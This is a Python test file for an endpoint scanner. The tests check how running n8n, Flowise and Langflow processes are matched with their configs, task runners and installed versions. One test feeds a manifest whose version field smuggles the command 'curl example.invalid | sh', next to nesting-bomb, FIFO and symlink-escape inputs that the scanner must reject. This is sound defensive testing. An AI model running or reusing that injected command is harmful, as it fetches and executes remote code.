"""One running n8n is one sighting: its ``~/.n8n/config``, its task runner and its installed version join it.

The n8n process is a record shaped as ``n8n start`` is, its project read by the real ``ProjectReader`` from
real files in a temporary folder (an n8n user folder with a SQLite database in n8n's table shape, an npm
install tree with n8n's ``package.json``); the engine is the real one. ``tests/e2e/test_n8n_real.py`` checks
the same against a real n8n 2.8.4.
"""

from __future__ import annotations

import json
import os
import sqlite3
from pathlib import Path
from typing import Any

import signatures
from endpoint.scan.engine import Engine
from endpoint.scan.evidence import ConfigRecord, ProcessRecord
from endpoint.scan.projects import ProjectReader, interests_of

LIB = signatures.load()
AGENT_NODES = [{"id": "a", "name": "AI Agent", "type": "@n8n/n8n-nodes-langchain.agent", "typeVersion": 1,
                "position": [0, 0], "parameters": {}}]
N8N_PID = os.getpid()  # the project reader looks at the process's /proc entry: a live pid in our namespace


def _user_folder(home: Path) -> Path:
    folder = home / ".n8n"
    folder.mkdir(parents=True)
    db = sqlite3.connect(folder / "database.sqlite")
    db.execute("CREATE TABLE workflow_entity (id varchar(36) PRIMARY KEY, name varchar(128) NOT NULL, "
               "active boolean NOT NULL, nodes text)")
    db.execute("INSERT INTO workflow_entity VALUES ('w1', 'Triage', 1, ?)", (json.dumps(AGENT_NODES),))
    db.commit()
    db.close()
    # n8n writes its encryption key here; the file sensor finds it as n8n's config (a fake key)
    (folder / "config").write_text(json.dumps({"encryptionKey": "FAKE-n8n-encryption-key-0000"}))
    return folder


def _install(prefix: Path, manifest: dict[str, Any] | str) -> Path:
    """An npm install of n8n below ``prefix``: node_modules/n8n/{bin/n8n,package.json}; the bin's path."""
    package = prefix / "node_modules" / "n8n"
    (package / "bin").mkdir(parents=True)
    (package / "bin" / "n8n").write_text("#!/usr/bin/env node\nrequire('../dist/index.js')\n")
    (package / "package.json").write_text(manifest if isinstance(manifest, str) else json.dumps(manifest))
    return package / "bin" / "n8n"


def _n8n(home: Path, script: str) -> ProcessRecord:
    record = ProcessRecord(pid=N8N_PID, ppid=1, name="node", exe="/usr/bin/node", cmdline=["node", script, "start"],
                           user="alice", uid=os.getuid(), create_time=0.0,
                           env_values={"N8N_USER_FOLDER": str(home), "HOME": str(home)})
    record.project = ProjectReader(interests_of(LIB), maps=False).read(record)
    assert record.project is not None and record.project.platform == "n8n"
    return record


def _child(pid: int, ppid: int, script: str) -> ProcessRecord:
    return ProcessRecord(pid=pid, ppid=ppid, name="node", exe="/usr/bin/node",
                         cmdline=["node", "--disallow-code-generation-from-strings", "--disable-proto=delete", script],
                         user="alice", uid=os.getuid(), create_time=0.0)


def _config(folder: Path) -> ConfigRecord:
    path = str(folder / "config")
    return ConfigRecord(path, path, "n8n", "json", "user", "alice")


def _scan(processes: list[ProcessRecord], configs: list[ConfigRecord]) -> list[dict[str, Any]]:
    engine = Engine(LIB, device_id="dev-1", platform="linux")
    engine.add_processes(processes)
    engine.add_configs(configs)
    return [dict(s) for s in engine.result("2026-01-01T00:00:00Z")]


def test_the_config_of_a_running_n8ns_folder_joins_its_sighting_and_another_folders_stays_its_own(
        tmp_path: Path) -> None:
    running = _user_folder(tmp_path / "alice")
    idle = _user_folder(tmp_path / "alice-old")  # an n8n folder no process reads: its file is its sighting
    script = _install(tmp_path / "opt", {"name": "n8n", "version": "2.8.4"})
    found = _scan([_n8n(tmp_path / "alice", str(script))], [_config(running), _config(idle)])
    by_name = {s["name"]: s for s in found}
    assert sorted(by_name) == ["n8n", f"n8n in {running}"], by_name
    one = by_name[f"n8n in {running}"]
    assert one["running"] is True and [c["path"] for c in one["configs"]] == [str(running / "config")]
    assert ("config", "files.user", str(running / "config")) in [(e["kind"], e["rule"], e["detail"])
                                                                 for e in one["evidence"]]
    other = by_name["n8n"]
    assert other["running"] is False and [c["path"] for c in other["configs"]] == [str(idle / "config")]
    assert "FAKE-n8n-encryption-key-0000" not in json.dumps(found)


def test_without_a_running_n8n_its_config_is_a_sighting_as_before(tmp_path: Path) -> None:
    folder = _user_folder(tmp_path / "alice")
    found = _scan([], [_config(folder)])
    assert [(s["name"], s["running"], [c["path"] for c in s["configs"]]) for s in found] == [
        ("n8n", False, [str(folder / "config")])]


def test_n8ns_version_is_read_from_the_package_json_beside_its_program(tmp_path: Path) -> None:
    _user_folder(tmp_path / "alice")
    script = _install(tmp_path / "opt", {"name": "n8n", "version": "2.8.4", "dependencies": {"x": "1"}})
    record = _n8n(tmp_path / "alice", str(script))
    assert record.project is not None and ("npm", "n8n", "2.8.4", "node_modules") in record.project.packages
    (sighting,) = _scan([record], [])
    assert sighting["project"] is not None and sighting["project"]["version"] == "2.8.4"
    assert "n8n 2.8.4 in its node_modules" in [e["detail"] for e in sighting["evidence"]]


def test_an_install_run_through_a_link_on_the_path_has_its_version(tmp_path: Path) -> None:
    _user_folder(tmp_path / "alice")
    script = _install(tmp_path / "opt" / "n8n-2", {"name": "n8n", "version": "1.123.4"})
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "n8n").symlink_to(script)  # the kernel runs `node /…/bin/n8n start`: the link's path
    record = _n8n(tmp_path / "alice", str(tmp_path / "bin" / "n8n"))
    assert record.project is not None and record.project.packages == (("npm", "n8n", "1.123.4", "node_modules"),)


def test_npms_global_layout_gives_the_version_where_the_link_is_not_followed(tmp_path: Path) -> None:
    # PREFIX/bin/n8n beside PREFIX/lib/node_modules/n8n (`npm install -g`); here the bin is a file, as a link
    # inside a container's root is to the host
    _user_folder(tmp_path / "alice")
    prefix = tmp_path / "usr-local"
    _install(prefix / "lib", {"name": "n8n", "version": "2.1.0"})
    (prefix / "bin").mkdir()
    (prefix / "bin" / "n8n").write_text("#!/usr/bin/env node\n")
    record = _n8n(tmp_path / "alice", str(prefix / "bin" / "n8n"))
    assert record.project is not None and record.project.packages == (("npm", "n8n", "2.1.0", "node_modules"),)


def test_a_manifest_that_is_not_n8ns_or_not_a_version_gives_no_version(tmp_path: Path) -> None:
    _user_folder(tmp_path / "alice")
    cases: dict[str, dict[str, Any] | str] = {
        "other": {"name": "not-n8n", "version": "9.9.9"},
        "shell": {"name": "n8n", "version": "1.0; curl example.invalid | sh"},
        "number": {"name": "n8n", "version": 2},
        "list": '["n8n", "2.8.4"]',
        "broken": "{not json",
        "deep": "[" * 100_000,
    }
    for name, manifest in cases.items():
        script = _install(tmp_path / name, manifest)
        record = _n8n(tmp_path / "alice", str(script))
        assert record.project is not None and record.project.packages == (), name


def test_a_manifest_linked_out_of_its_package_or_a_fifo_is_not_read(tmp_path: Path) -> None:
    _user_folder(tmp_path / "alice")
    outside = tmp_path / "elsewhere.json"
    outside.write_text(json.dumps({"name": "n8n", "version": "6.6.6"}))
    script = _install(tmp_path / "linked", "{}")
    manifest = script.parent.parent / "package.json"
    manifest.unlink()
    manifest.symlink_to(outside)
    record = _n8n(tmp_path / "alice", str(script))
    assert record.project is not None and record.project.packages == ()
    script = _install(tmp_path / "fifo", "{}")
    manifest = script.parent.parent / "package.json"
    manifest.unlink()
    os.mkfifo(manifest)  # opened for reading, a FIFO would block the scan: never opened
    record = _n8n(tmp_path / "alice", str(script))
    assert record.project is not None and record.project.packages == ()


def test_n8ns_task_runner_is_part_of_its_sighting_and_other_children_are_not(tmp_path: Path) -> None:
    folder = _user_folder(tmp_path / "alice")
    script = _install(tmp_path / "opt", {"name": "n8n", "version": "2.8.4"})
    modules = tmp_path / "opt" / "node_modules"
    n8n = _n8n(tmp_path / "alice", str(script))
    runner = _child(N8N_PID + 100_001, N8N_PID, str(modules / "@n8n" / "task-runner" / "dist" / "start.js"))
    below_runner = _child(N8N_PID + 100_002, runner.pid, str(modules / "n8n" / "dist" / "worker.js"))
    stranger = _child(N8N_PID + 100_003, N8N_PID, str(tmp_path / "scripts" / "cleanup.js"))
    lookalike = _child(N8N_PID + 100_004, N8N_PID, str(modules / "@n8nx" / "runner" / "start.js"))
    found = _scan([n8n, runner, below_runner, stranger, lookalike], [_config(folder)])
    assert len(found) == 1, [s["name"] for s in found]
    pids = [p["pid"] for p in found[0]["processes"]]
    assert sorted(pids) == sorted([N8N_PID, runner.pid, below_runner.pid])
    assert f"pid {runner.pid}: runs @n8n/task-runner, part of n8n" in [e["detail"] for e in found[0]["evidence"]]


def test_a_runner_shaped_script_below_a_process_that_is_no_platform_joins_nothing(tmp_path: Path) -> None:
    modules = tmp_path / "opt" / "node_modules"
    parent = ProcessRecord(pid=N8N_PID, ppid=1, name="node", exe="/usr/bin/node",
                           cmdline=["node", str(tmp_path / "app" / "index.js")], user="alice", uid=os.getuid(),
                           create_time=0.0)
    runner = _child(N8N_PID + 100_001, N8N_PID, str(modules / "@n8n" / "task-runner" / "dist" / "start.js"))
    assert _scan([parent, runner], []) == []


def test_flowises_version_is_read_as_n8ns_from_its_bin_run(tmp_path: Path) -> None:
    data = tmp_path / "flowise-data"
    data.mkdir()
    package = tmp_path / "lib" / "node_modules" / "flowise"
    (package / "bin").mkdir(parents=True)
    (package / "bin" / "run").write_text("#!/usr/bin/env node\n")
    (package / "package.json").write_text(json.dumps({"name": "flowise", "version": "3.0.11"}))
    record = ProcessRecord(pid=N8N_PID, ppid=1, name="node", exe="/usr/bin/node",
                           cmdline=["node", str(package / "bin" / "run"), "start"], user="alice", uid=os.getuid(),
                           create_time=0.0, env_values={"DATABASE_PATH": str(data), "HOME": str(tmp_path)})
    record.project = ProjectReader(interests_of(LIB), maps=False).read(record)
    (sighting,) = _scan([record], [])
    assert (sighting["signature"], sighting["project"]["version"]) == ("flowise", "3.0.11")


def test_langflows_version_is_read_from_its_venvs_dist_info(tmp_path: Path) -> None:
    venv = tmp_path / "langflow-venv"
    site = venv / "lib" / "python3.11" / "site-packages"
    (site / "langflow-1.5.0.post2.dist-info").mkdir(parents=True)
    (venv / "pyvenv.cfg").write_text("home = /usr/bin\nversion = 3.11.2\n")
    (site / "langflow-1.5.0.post2.dist-info" / "METADATA").write_text(
        "Metadata-Version: 2.4\nName: langflow\nVersion: 1.5.0.post2\n\nLangflow.\n")
    (venv / "bin").mkdir()
    (venv / "bin" / "langflow").write_text(f"#!{venv}/bin/python\nfrom langflow.__main__ import main\nmain()\n")
    record = ProcessRecord(pid=N8N_PID, ppid=1, name="langflow", exe="/usr/bin/python3.11",
                           cmdline=[str(venv / "bin" / "python"), str(venv / "bin" / "langflow"), "run"],
                           user="alice", uid=os.getuid(), create_time=0.0, env_values={"HOME": str(tmp_path)})
    record.project = ProjectReader(interests_of(LIB), maps=False).read(record)
    (sighting,) = _scan([record], [])
    assert (sighting["signature"], sighting["project"]["version"]) == ("langflow", "1.5.0.post2")


def test_a_running_sighting_whose_folder_is_the_filesystem_root_takes_no_config(tmp_path: Path) -> None:
    # a project record as the reader makes one, its root "/" (a platform given DATA=/): it would hold every file
    from endpoint.scan.evidence import Project

    folder = _user_folder(tmp_path / "alice")
    record = ProcessRecord(pid=N8N_PID, ppid=1, name="node", exe="/usr/bin/node",
                           cmdline=["node", "/usr/local/lib/node_modules/n8n/bin/n8n", "start"], user="alice",
                           uid=os.getuid(), create_time=0.0)
    record.project = Project("node", "/", "n8n", platform="n8n")
    found = {s["name"]: s for s in _scan([record], [_config(folder)])}
    assert sorted(found) == ["n8n", "n8n in /"]
    assert found["n8n in /"]["configs"] == [] and found["n8n"]["running"] is False


def test_on_windows_the_config_joins_the_n8n_of_its_folder_whatever_the_case_of_its_path(tmp_path: Path) -> None:
    # the records as the Windows sensors make them (this machine has no Windows n8n to run)
    from endpoint.scan.evidence import Project

    record = ProcessRecord(pid=N8N_PID, ppid=1, name="node.exe", exe="C:\\Program Files\\nodejs\\node.exe",
                           cmdline=["node", "C:\\Users\\Alice\\AppData\\Roaming\\npm\\node_modules\\n8n\\bin\\n8n",
                                    "start"], user="ALICE-PC\\alice", uid=None, create_time=0.0)
    record.project = Project("node", "C:\\Users\\Alice\\.n8n", "n8n", platform="n8n")
    config = "c:\\users\\alice\\.n8n\\config"
    found = _scan([record], [ConfigRecord(config, config, "n8n", "json", "user", "ALICE-PC\\alice")])
    assert [(s["name"], [c["path"] for c in s["configs"]]) for s in found] == [
        ("n8n in C:\\Users\\Alice\\.n8n", [config])]


def test_an_n8n_pointed_at_another_users_folder_does_not_take_that_users_config(tmp_path: Path) -> None:
    """alice starts n8n with N8N_USER_FOLDER set to bob's home: bob's own n8n config stays bob's sighting, not
    evidence folded into alice's running one (where it would no longer show as bob's agent)."""
    bobs = _user_folder(tmp_path / "bob")
    script = _install(tmp_path / "opt", {"name": "n8n", "version": "2.8.4"})
    path = str(bobs / "config")
    found = _scan([_n8n(tmp_path / "bob", str(script))], [ConfigRecord(path, path, "n8n", "json", "user", "bob")])
    by_user = {s["user"]: s for s in found}
    assert sorted(by_user) == ["alice", "bob"], found
    assert by_user["alice"]["configs"] == []
    assert by_user["bob"]["running"] is False and [c["path"] for c in by_user["bob"]["configs"]] == [path]
